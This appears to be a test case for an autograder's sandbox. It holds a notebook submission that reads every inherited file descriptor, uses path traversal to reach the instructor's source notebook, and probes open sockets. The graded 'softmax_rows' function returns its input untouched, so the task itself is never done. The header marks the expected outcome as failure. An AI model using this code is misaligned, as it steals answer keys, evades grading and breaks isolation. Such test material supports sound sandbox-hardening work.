# tries: every descriptor that the process inherited is read, and every socket asked who is at its other end
# must: softmax_rows=failed|tampered|timeout|crashed *=not_attempted
# gains: 0
# flags: weak-leak

# %% own
import os
import socket
import stat

for number in range(256):
    try:
        kind = os.fstat(number).st_mode
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, target.replace("@RUN@", "…")[:80])
    if stat.S_ISREG(kind):
        print(os.pread(number, 20000, 0).hex())
    if stat.S_ISDIR(kind):
        try:
            print(open(os.open("../../../../@COURSE@/source/01_victim/01_victim.ipynb", os.O_RDONLY, dir_fd=number)).read())
        except OSError as error:
            print(error.strerror)

# %% exercise="softmax_rows"
def softmax_rows(x):
    for number in range(3, 64):
        try:
            peer = socket.socket(fileno=os.dup(number))
            peer.settimeout(0.05)
            print(number, peer.getpeername(), peer.recv(4000).hex())
        except (OSError, ValueError):
            pass
    return x
